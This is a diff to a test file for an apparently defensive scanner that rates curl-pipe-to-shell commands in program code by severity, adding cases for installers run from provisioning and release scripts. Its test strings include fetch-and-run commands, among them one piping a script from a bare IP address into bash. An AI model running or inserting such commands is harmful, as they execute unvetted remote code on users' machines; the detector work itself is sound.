@@ -1335,8 +1335,12 @@ describe('curl-pipe-shell in program code: a command string that downloads a scr
     expect(severityOf('pkg/boot.py', ['subprocess.run(["curl", "-fsSLo", "tool.tgz", "https://cdn-pkg-mirror.dev/tool.tgz"], check=True)'])).toBeUndefined();
     expect(severityOf('lib/boot.rb', ['HINT = "curl -s https://cdn-pkg-mirror.dev/i | sh"'])).toBeUndefined();
   });
-  it("a well-known tool's installer run by a setup command is medium", () => {
+  it("a well-known tool's installer run by a setup command, or any installer run by a script a developer runs, is medium", () => {
     expect(severityOf('src/commands/setup.ts', ["  execSync('curl -fsSL https://bun.sh/install | bash', { stdio: 'inherit' });"])).toBe('medium');
+    expect(severityOf('scripts/provision.py', ['subprocess.run(["bash", "-c", "curl -fsSL https://deb.nodesource.com/setup_22.x | bash -"], check=True)'])).toBe('medium');
+    expect(severityOf('tools/release/main.go', ['\texec.Command("sh", "-c", "curl -sSfL https://goreleaser.com/static/run | bash -s -- release").Run()'])).toBe('medium');
+    // From a bare IP address, a script folder does not help.
+    expect(severityOf('scripts/provision.py', ['subprocess.run(["bash", "-c", "curl -fsSL http://45.77.12.9/x | bash"])'])).toBe('critical');
   });
   it('an install hint printed, or a command in a hunk that runs another, is not reported; shell scripts are read by their own reader', () => {
     expect(severityOf('src/doctor.ts', ["  console.log('Install bun: curl -fsSL https://bun.sh/install | bash');", "  execSync('bun --version');"])).toBeUndefined();
